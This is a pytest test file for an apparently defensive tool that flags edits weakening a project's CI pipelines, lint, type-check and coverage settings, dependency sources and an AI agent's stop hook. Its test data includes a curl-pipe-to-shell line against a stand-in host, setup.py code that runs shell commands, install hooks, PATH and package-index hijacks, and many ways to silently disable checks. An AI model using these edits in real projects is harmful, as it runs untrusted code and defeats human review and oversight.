"""Edits of what judges the project: what is not known to be harmless is held, and everyday edits are silent."""

from __future__ import annotations

import pytest

from pytest_agentgate.checks.integrity import dependencies, judges, pipelines
from pytest_agentgate.checks.integrity.check import BUILT_IN, Integrity
from pytest_agentgate.checks.integrity.manifests import names
from pytest_agentgate.checks.integrity.settings import settings_of
from pytest_agentgate.checks.integrity.view import Source, view_of

CI = """on: {push: {branches: [main]}, pull_request: {}}
permissions: {contents: read}
jobs:
  test:
    strategy:
      matrix: {python: ['3.9', '3.10', '3.11'], os: [ubuntu-22.04, windows-latest]}
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8
      - uses: actions/setup-python@v5
        with: {python-version: '3.11'}
      - run: pip install -e . -r dev.txt
      - run: |
          ruff check src
          mypy
      - run: pytest --cov
  hooks:
    steps:
      - uses: pre-commit/action@v3.0.0
"""
HOOKS = """repos:
- repo: https://github.com/astral-sh/ruff-pre-commit
  rev: v0.8.4
  hooks:
  - {id: ruff, files: ^src/}
- repo: https://github.com/pre-commit/mirrors-mypy
  rev: v1.13.0
  hooks:
  - {id: mypy, additional_dependencies: [types-PyYAML]}
"""
MAKE = "PYTEST := python -m pytest\n.PHONY: check lint test\ncheck: lint test\nlint:\n\truff check src\n\tmypy --strict src\ntest:\n\t$(PYTEST)\n"
TOX = "[tox]\nenvlist = py{39,310,311}, lint\n[testenv]\ndeps = pytest\ncommands = pytest --cov-fail-under=90 {posargs}\n[testenv:lint]\ncommands = ruff check src\n"
NOX = "import nox\n\nnox.options.sessions = ['tests', 'lint']\n\n\n@nox.session(python=['3.10', '3.11', '3.12'])\ndef tests(session):\n    session.run('pytest')\n"
LAW = """[tool.pytest.ini_options]
addopts = "-q --strict-markers"
filterwarnings = ["error"]
[tool.ruff]
line-length = 88
[tool.ruff.lint]
select = ["E", "F", "C90"]
mccabe.max-complexity = 8
[tool.mypy]
strict = true
[tool.coverage.report]
fail_under = 90
[tool.pylint.main]
fail-under = 9.5
[tool.importlinter]
root_package = "app"
contracts = [{name = "layers"}]
"""
SETUP = "from setuptools import setup\n\nsetup(name='app', version='1', install_requires=['requests'])\n"
CHECK = "import subprocess\nimport sys\n\nCOMMANDS = [['ruff', 'check'], ['mypy']]\nbad = sum(subprocess.run(c).returncode != 0 for c in COMMANDS)\nsys.exit(bad)\n"
FILES = {".github/workflows/ci.yml": CI, ".pre-commit-config.yaml": HOOKS, "Makefile": MAKE, "tox.ini": TOX, "noxfile.py": NOX, "pyproject.toml": LAW,
         "setup.py": SETUP, "codecov.yml": "coverage: {status: {project: {default: {target: 90%}}}}\n", "scripts/check.sh": "set -eu\nruff check .\nmypy\n",
         "requirements-dev.txt": "pytest==8.3.4 --hash=sha256:11\nruff==0.8.4\n", "scripts/check.py": CHECK, "package.json": '{\n  "name": "app",\n  "scripts": {\n    "test": "python -m pytest"\n  }\n}\n',
         "compose.yaml": "services:\n  test:\n    image: python:3.12\n    command: pytest -q\n", "docs/work.md": "Run `ruff check` first.\n",
         "src/app/py.typed": "", "src/app/__init__.py": ""}  # fmt: skip
WF, PC = ".github/workflows/ci.yml", ".pre-commit-config.yaml"


def spoken(path: str, old: str, new: str) -> bool:
    """Whether the rule speaks of an edit of one file."""
    assert old in FILES[path], "the edit edits nothing"
    return any(judges.find(view_of(FILES, {path: FILES[path].replace(old, new, 1)})))


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        (WF, "windows-latest", "ubuntu-24.04"),
        (WF, "['3.9', '3.10', '3.11']", "['3.11']"),
        (WF, "os: [", "exclude: [{python: '3.9'}], os: ["),
        (WF, "  test:\n", "  test:\n    if: github.actor == 'nobody'\n"),
        (WF, "  hooks:\n", "  hooks:\n    if: github.actor == 'nobody'\n"),
        (WF, "          ruff check src\n", "          exit 0\n          ruff check src\n"),
        (WF, "          mypy", "          mypy() { :; }\n          mypy"),
        (WF, "          mypy", "          mypy || echo no"),
        (WF, "-r dev.txt", "-r dev.txt && printf '[mypy]' > mypy.ini"),
        (WF, "actions/checkout@08", "somebody/checkout@08"),
        (WF, "@08c6903cd8c0fde910a37f88322edcfb5dd907a8", "@main"),
        (WF, "      - uses: pre-commit/action@v3.0.0\n", "      - run: echo hooks\n"),
        (WF, "pull_request: {}", "pull_request: {types: [labeled]}"),
        (WF, "pull_request: {}", "pull_request_target: {}"),
        (WF, "      - run: pytest --cov\n", "      - run: pytest --cov\n        working-directory: docs\n"),
        (WF, "permissions:", "env: {PATH: ./bin}\npermissions:"),
        (WF, "contents: read", "contents: write"),
        (WF, "python-version: '3.11'", "python-version: '3.11', ref: main"),
        (WF, "pip install -e . -r dev.txt", "pip install app -r dev.txt"),
        ("pyproject.toml", "[tool.ruff]", "[build-system]\nbuild-backend = 'own'\nbackend-path = ['tools']\n[tool.ruff]"),
        (
            WF,
            "          mypy\n      - run: pytest --cov\n",
            "      - run: pytest --cov\n  types:\n    if: false\n    steps:\n      - run: mypy\n",
        ),
        (WF, "          mypy\n", "          export PYTEST_ADDOPTS=--co\n          mypy\n"),
        (WF, "          mypy\n", "          cd docs\n          mypy\n"),
        (WF, "          mypy\n", "          mypy --follow-imports=skip\n"),
        (WF, "          mypy\n", "          echo $(rm mypy.ini)\n          mypy\n"),
        (WF, "      - run: pytest", "      - uses: somebody/helps@v1\n      - run: pytest"),
        (WF, "permissions:", "env: {PIP_INDEX_URL: 'https://x.invalid'}\npermissions:"),
        (PC, "rev: v0.8.4", "rev: v0.0.200"),
        (PC, "files: ^src/", "files: ^nothing/"),
        (PC, "[types-PyYAML]", "[]"),
        (PC, "  - {id: ruff, files: ^src/}\n", "  - {id: ruff, files: ^no/}\n  - {id: ruff, files: ^src/}\n"),
        ("Makefile", "PYTEST := python -m pytest", "PYTEST := true"),
        ("Makefile", "check: lint test", "check: test"),
        ("Makefile", "--strict ", ""),
        ("Makefile", "\truff check", "\t-ruff check"),
        ("Makefile", ".PHONY: check lint test", ".PHONY: lint test"),
        ("tox.ini", "py{39,310,311}, lint", "py311"),
        ("tox.ini", " --cov-fail-under=90", ""),
        ("tox.ini", "commands = ruff", "commands = - ruff"),
        ("noxfile.py", "['tests', 'lint']", "['tests']"),
        ("noxfile.py", "['3.10', '3.11', '3.12']", "['3.12']"),
        ("noxfile.py", "session.run('pytest')", "session.log('pytest')"),
        ("noxfile.py", "session.run('pytest')", "session.run('pytest', '-k', 'fast', *session.posargs)"),
        ("requirements-dev.txt", "ruff==0.8.4", "--extra-index-url https://wheels.example.invalid/simple\nruff==0.8.4"),
        ("pyproject.toml", "-q --strict-markers", "-q -m 'not slow'"),
        ("pyproject.toml", '["error"]', '["error", "ignore::Warning"]'),
        ("pyproject.toml", "max-complexity = 8", "max-complexity = 80"),
        ("pyproject.toml", '"E", "F", "C90"', '"E", "F"'),
        ("pyproject.toml", "strict = true", "strict = false"),
        ("pyproject.toml", "fail_under = 90", "fail_under = 9"),
        ("pyproject.toml", "fail_under = 90", "fail_under = 'no number'"),
        ("pyproject.toml", "fail-under = 9.5", "fail-under = 0"),
        ("pyproject.toml", "fail-under = 9.5\n", ""),
        ("scripts/check.sh", "mypy\n", "find . -name '*.ini' -delete\nmypy\n"),
        ("scripts/check.sh", "mypy\n", "echo [mypy] > mypy.ini\nmypy\n"),
        ("setup.py", "version='1'", "version=__import__('os').popen('x').read()"),
        ("pyproject.toml", 'contracts = [{name = "layers"}]\n', ""),
        ("pyproject.toml", "[tool.mypy]", "[tool.mypy]\nfiles = ['src/app/one.py']"),
        ("pyproject.toml", "[tool.coverage.report]", "[tool.coverage.run]\nsource = ['src/app/one.py']\n[tool.coverage.report]"),
        ("setup.py", "setup(name", "__import__('os').system('x')\nsetup(name"),
        ("codecov.yml", "90%", "1%"),
        ("scripts/check.sh", "set -eu\n", ""),
        ("scripts/check.sh", "mypy", "mypy || true"),
        ("requirements-dev.txt", " --hash=sha256:11", ""),
        ("requirements-dev.txt", "sha256:11", "sha256:22"),
        ("requirements-dev.txt", "pytest==8.3.4", "pytest==5.0.0"),
        ("scripts/check.py", ", ['mypy']", ""),
        ("scripts/check.py", "returncode != 0", "returncode > 1"),
        ("scripts/check.py", "sys.exit(bad)", "sys.exit(0)"),
        ("package.json", "python -m pytest", "echo ok"),
        ("compose.yaml", "command: pytest -q", "command: echo ok"),
        ("pyproject.toml", "[tool.ruff]", "[tool.hatch.build.hooks.custom]\npath = 'tools/hook.py'\n[tool.ruff]"),
        ("pyproject.toml", "[tool.ruff]", "[tool.pdm.scripts]\npost_install = 'curl x'\n[tool.ruff]"),
        ("pyproject.toml", "[tool.ruff]", "[tool.setuptools.data-files]\n'lib/site-packages' = ['start.pth']\n[tool.ruff]"),
    ],
)
def test_what_is_not_known_to_be_harmless_is_held(path: str, old: str, new: str):
    assert spoken(path, old, new)


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        (WF, "'3.9', '3.10', '3.11'", "'3.10', '3.11', '3.12'"),
        (WF, "ubuntu-22.04", "ubuntu-26.04"),
        (WF, "runs-on: ubuntu-24.04", "runs-on: ubuntu-26.04\n    timeout-minutes: 20"),
        (WF, "setup-python@v5", "setup-python@v6"),
        (WF, "dd907a8", "dd907a9"),
        (WF, "python-version: '3.11'", "python-version: '3.12', cache: pip"),
        (WF, "pip install -e . -r dev.txt", "uv pip install -e . --group dev"),
        (WF, "pytest --cov", "uv run pytest --cov --durations=5"),
        (WF, "          mypy", "          mypy\n          ruff format --check src"),
        (WF, "  hooks:\n", "  docs:\n    steps:\n      - run: make html\n  hooks:\n"),
        (WF, "jobs:", "concurrency: {group: x, cancel-in-progress: true}\njobs:"),
        (WF, "branches: [main]", "branches: [main, next]"),
        (WF, "pull_request: {}", "pull_request: {}, merge_group: {}"),
        (WF, "          mypy\n      - run: pytest --cov\n", "      - run: pytest --cov\n  types:\n    steps:\n      - run: mypy\n"),
        (WF, "pip install -e . -r dev.txt", "uv sync --locked"),
        (PC, "repos:\n", "ci: {autoupdate_schedule: monthly}\nrepos:\n"),
        (WF, "  hooks:\n", "      - uses: somebody/tells@v1\n  hooks:\n"),
        (PC, "rev: v0.8.4", "rev: v0.15.0"),
        (PC, "[types-PyYAML]", "[types-PyYAML, types-requests]"),
        (
            PC,
            "- repo: https://github.com/pre",
            "- repo: https://github.com/x/y\n  rev: v1\n  hooks: [{id: y}]\n- repo: https://github.com/pre",
        ),
        ("Makefile", "test:\n", "docs:\n\tsphinx-build docs html\ntest:\n"),
        ("tox.ini", "py{39,310,311}, lint", "py{310,311,312}, lint, docs"),
        ("tox.ini", "ruff check src", "ruff check src {posargs}"),
        ("noxfile.py", "['3.10', '3.11', '3.12']", "['3.11', '3.12', '3.13']"),
        ("noxfile.py", "session.run('pytest')", "session.run('pytest', *session.posargs)"),
        ("pyproject.toml", "addopts", "markers = ['slow: takes long']\naddopts"),
        ("pyproject.toml", "line-length = 88", "line-length = 100"),
        ("pyproject.toml", '"E", "F", "C90"', '"E", "F", "C90", "B"'),
        ("pyproject.toml", "-q --strict-markers", "-ra --strict-markers --tb=short"),
        ("pyproject.toml", '["error"]', '["error", "ignore:old:DeprecationWarning"]'),
        ("pyproject.toml", "fail_under = 90", "fail_under = 95"),
        ("pyproject.toml", "max-complexity = 8", "max-complexity = 7"),
        ("setup.py", "version='1'", "version='2'"),
        ("setup.py", "version='1'", "version='1', packages=find_packages()"),
        ("setup.py", "['requests']", "['requests>=2']"),
        ("requirements-dev.txt", "ruff==0.8.4", "ruff==0.9.0"),
        ("scripts/check.sh", "mypy\n", "mypy\npytest\n"),
        ("scripts/check.py", "['mypy']", "['mypy'], ['pytest']"),
        ("scripts/check.py", "import sys", "import sys  # for its end"),
        ("package.json", '"name": "app"', '"name": "application"'),
        ("compose.yaml", "python:3.12", "python:3.14"),
        ("docs/work.md", "Run `ruff check` first.", "Say hello."),
        ("pyproject.toml", "[tool.ruff]", "[tool.hatch.build.hooks.vcs]\nversion-file = '_version.py'\n[tool.ruff]"),
    ],
)
def test_everyday_edits_are_silent(path: str, old: str, new: str):
    assert not spoken(path, old, new)


def test_a_marker_of_types_and_whole_files_do_not_vanish():
    for path in ("src/app/py.typed", WF, PC, "codecov.yml", "Makefile"):
        assert any(judges.find(view_of(FILES, {path: None}))), path


def test_other_shapes_of_pipelines_are_held_unless_only_versions_differ():
    circle = "version: 2.1\njobs:\n  test:\n    docker: [{image: 'python:3.11'}]\n    steps:\n    - run: {name: tests, command: pytest}\n"
    path = ".circleci/config.yml"
    base = {**FILES, path: circle}
    assert any(judges.find(view_of(base, {path: circle.replace("command: pytest", "when: on_fail, command: pytest")})))
    assert not any(judges.find(view_of(base, {path: circle.replace("3.11", "3.12")})))


def test_it_is_silent_of_files_that_another_rule_speaks_of(tmp_path, repo):
    repo.commit({"calc.py": "X = 1\n", WF: CI, "pyproject.toml": '[tool.agentgate]\nchecks = ["integrity"]\n'})
    repo.write(**{WF: CI.replace("pytest --cov", "pytest --cov || true")})
    rules = {f.rule for e in repo.gate().evidence for f in e.findings}
    assert rules == {"integrity/pipeline-weakened"}
    repo.write(
        **{
            WF: CI.replace("contents: read", "contents: read\nenv: {PATH: ./bin}")
            .replace("{contents: read\nenv", "{contents: read}\nenv")
            .replace("./bin}}", "./bin}")
        }
    )
    assert {f.rule for e in repo.gate().evidence for f in e.findings} == {"integrity/judges-edited"}
    assert judges.RULE.id in Integrity().rules


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("setup.py", "N = ['flask']\nsetup(install_requires=N, extras_require={'x': ['rich>=1']})\n"),
        ("Pipfile", '[packages]\nflask = "*"\n[dev-packages]\nrich = "*"\n[requires]\npython_version = "3.11"\n'),
        ("tox.ini", "[testenv]\ndeps =\n    flask>1\n    py39: rich\n    -r x.txt\ncommands = pytest\n"),
        ("setup.cfg", "[options]\ninstall_requires =\n    flask\ntests_require =\n    rich\n"),
    ],
)
def test_every_manifest_names_its_packages(path: str, text: str):
    assert names(Source(path, text.encode())) == {"flask", "rich"}


def test_a_toml_file_that_is_too_deep_breaks_nothing():
    deep = "x = " + "[" * 5000 + "]" * 5000
    assert settings_of(Source("tests/data/deep.toml", deep.encode())) == {}
    assert "unreadable" in settings_of(Source("pyproject.toml", deep.encode()))
    assert any(judges.find(view_of(FILES, {"pyproject.toml": deep})))


def test_a_pipeline_that_unfolds_without_end_is_unreadable_and_held():
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{n}: &{n} [{', '.join(['*' + p] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True)
    )
    circle = "jobs: &j {test: {steps: [*j]}}\n"
    for text in (bomb, circle):
        assert any(judges.find(view_of(FILES, {WF: text})))


def test_settings_and_pipelines_may_move_whole():
    base = {
        **FILES,
        "setup.cfg": "[mypy]\nstrict = true\nfiles = src\n",
        "pyproject.toml": "[project]\nname = 'x'\n",
        ".travis.yml": "language: python\nscript:\n- pytest\n- mypy\n",
    }
    moved = {"setup.cfg": None, "pyproject.toml": "[project]\nname = 'x'\n[tool.mypy]\nstrict = true\nfiles = 'src'\n"}
    assert not any(judges.find(view_of(base, moved)))
    assert any(judges.find(view_of(base, {**moved, "pyproject.toml": "[project]\nname = 'x'\n[tool.mypy]\nfiles = 'src'\n"})))
    plain = {**base, WF: CI.replace("pytest --cov", "pytest")}
    assert not any(judges.find(view_of(plain, {".travis.yml": None}))), "the other pipeline runs the same"
    assert any(judges.find(view_of({**plain, WF: plain[WF].replace("- run: pytest", "- run: '# pytest'")}, {".travis.yml": None})))
    assert any(
        judges.find(view_of({**plain, WF: plain[WF].replace("  test:\n", "  test:\n    if: false\n")}, {".travis.yml": None}))
    )
    assert any(judges.find(view_of({**base, WF: CI.replace("          mypy\n", "")}, {".travis.yml": None})))


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        (".gitlab/ci/test.yml", "test:\n  script:\n    - pytest\n    - mypy\n", "test:\n  script:\n    - pytest || true\n"),
        ("ci/test", "#!/bin/sh\nset -e\npytest\nmypy\n", "#!/bin/sh\npytest\nexit 0\n"),
        ("lefthook.yml", "pre-push:\n  commands:\n    test: {run: pytest}\n", "pre-push:\n  commands:\n    test: {run: echo ok}\n"),
        (".claude/settings.json", '{"hooks": {"Stop": [{"command": "agentgate hook stop"}]}}', "{}"),
        (".github/settings.yml", "branches: [{protection: {required_status_checks: {strict: true}}}]\n", "branches: [{protection: null}]\n"),
        ("ruff.toml", "line-length = 99\n", "line-length = 99\n[format]\nexclude = ['src/**']\n"),
    ],
)  # fmt: skip
def test_judges_in_further_places_are_held(path: str, old: str, new: str):
    base = {"src/app/__init__.py": "", path: old}
    found = {h.rule for find in (judges.find, pipelines.find) for h in find(view_of(base, {path: new}))}
    assert found, path
    assert not {h.rule for h in judges.find(view_of(base, {"src/app/__init__.py": "X = 1\n"}))}


@pytest.mark.parametrize(
    ("path", "text", "held"),
    [
        (".github/workflows/more.yml", "on: [pull_request]\njobs:\n  test:\n    steps:\n      - run: echo ok\n", True),
        (
            ".github/workflows/more.yml",
            "on: [pull_request]\njobs:\n  other:\n    name: test\n    steps:\n      - run: echo ok\n",
            True,
        ),
        (".github/workflows/more.yml", "on: [pull_request]\njobs:\n  docs:\n    steps:\n      - run: make html\n", False),
        (WF, CI.replace("- run: pytest --cov", "- run: pytest --cov\n        env: {KEY: '${{ secrets.DEPLOY_KEY }}'}"), True),
        (
            WF,
            CI.replace("- run: pytest --cov", "- run: pytest --cov\n        env: {CODECOV_TOKEN: '${{ secrets.CODECOV_TOKEN }}'}"),
            False,
        ),
    ],
)
def test_namesakes_of_jobs_and_new_secrets_are_held(path: str, text: str, held: bool):
    assert any(pipelines.SET.find(view_of(FILES, {path: text}))) is held


@pytest.mark.parametrize(
    ("path", "held"),
    [
        ("src", True), ("./src/**", True), (".", True), ("${{ github.workspace }}", True), ("|\n            ~/.cache/pip\n            src/app\n", True),
        ("~/.cache/pip", False), (".venv", False), (".mypy_cache", False), ("/usr/src", False), ("$GITHUB_WORKSPACE/src", True), ("s*/**/*.py", True), ("**/node_modules", False), ("'!src'", False), ("|\n            ~/.cache/pip\n            .tox\n", False),
    ],
)  # fmt: skip
def test_the_repositorys_own_files_come_from_no_cache(path: str, held: bool):
    text = CI.replace(
        "      - run: pytest",
        f"      - uses: actions/cache@v4\n        with:\n          path: {path}\n          key: a\n      - run: pytest",
    )
    found = list(pipelines.SET.find(view_of(FILES, {WF: text})))
    assert any("come from a cache" in h.message for h in found) == held
    assert not any(
        "come from a cache" in h.message for h in pipelines.SET.find(view_of({**FILES, WF: text}, {WF: text + "# more\n"}))
    )
    lab = f"test:\n  cache: {{paths: ['{path}']}}\n  script: [pytest]\n"
    if "\n" not in path:
        found = list(
            pipelines.SET.find(view_of({**FILES, ".gitlab-ci.yml": "test: {script: [pytest]}\n"}, {".gitlab-ci.yml": lab}))
        )
        assert any("come from a cache" in h.message for h in found) == held


def test_a_job_may_get_a_matrix_where_it_had_none():
    job = "on: [push]\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: pytest\n"
    matrix = "    strategy: {{matrix: {{python: [{}]{}}}}}\n    steps:"
    for values, more, silent in (("'3.11', '3.12'", "", True), ("", "", False), ("'3.11'", ", exclude: [{python: '3.11'}]", False)):
        head = job.replace("    steps:", matrix.format(values, more))
        assert bool(list(judges.find(view_of({"calc.py": "", WF: job}, {WF: head})))) != silent


def test_a_program_from_the_net_is_held():
    line = "RUN curl -sSfL https://example.invalid/i.sh | sh\n"
    found = [
        h.rule for h in dependencies.SET.find(view_of({"Dockerfile": "FROM python\n"}, {"Dockerfile": "FROM python\n" + line}))
    ]
    assert found == ["integrity/other-index"]
    assert not list(dependencies.SET.find(view_of({"Dockerfile": line}, {"Dockerfile": "FROM python\n" + line})))


@pytest.mark.parametrize(
    ("path", "text", "held"),
    [
        (".coveragerc", "[report]\nfail_under = 90\nexclude_also =\n    def total\n", True),
        (".coveragerc", "[report]\nfail_under = 90\nshow_missing = true\n", False),
        ("mypy.ini", "[mypy]\nstrict = True\n", False),
        ("mypy.ini", "[mypy]\nstrict = False\n", True),
        ("pkg/mypy.ini", "[mypy]\nstrict = False\n", False),
    ],
)
def test_a_new_file_that_takes_the_place_of_settings_is_compared_with_them(path: str, text: str, held: bool):
    assert any(judges.find(view_of(FILES, {path: text}))) == held


def test_a_target_for_each_python_may_change():
    make = MAKE + "auto: build310\nbuild39 build310: clean\n\t$(PYTHON_VER) -m pytest\n"
    new = make.replace("auto: build310", "auto: build311").replace("build39 build310:", "build310 build311 build312:")
    assert not list(judges.find(view_of({**FILES, "Makefile": make}, {"Makefile": new})))
    assert list(judges.find(view_of({**FILES, "Makefile": make}, {"Makefile": make.replace("-m pytest", "-m pytest -k fast")})))


def test_make_hands_on_arguments_that_it_does_not_set():
    assert not spoken("Makefile", "\t$(PYTEST)\n", "\t$(PYTEST) $(ARGS)\n")
    narrowed = MAKE.replace("\t$(PYTEST)\n", "\t$(PYTEST) $(ARGS)\n").replace("PYTEST :=", "ARGS ?= -k fast\nPYTEST :=")
    assert any(judges.find(view_of(FILES, {"Makefile": narrowed})))


@pytest.mark.parametrize(
    ("lines", "held"),
    [
        ('["if TYPE_CHECKING:", "raise NotImplementedError", "@(abc\\\\.)?abstractmethod", "^\\\\s*\\\\.\\\\.\\\\.$"]', False),
        ('["if TYPE_CHECKING:", "def total"]', True),
        ('[".*"]', True),
        ('["..."]', True),
    ],
)
def test_lines_that_cannot_run_may_be_left_out_of_coverage(lines: str, held: bool):
    law = LAW.replace("fail_under = 90", f"fail_under = 90\nexclude_also = {lines}")
    found = [h.rule for s in BUILT_IN for h in s.find(view_of(FILES, {"pyproject.toml": law}))]
    assert ("integrity/config-weakened" in found or "integrity/judges-edited" in found) == held, found
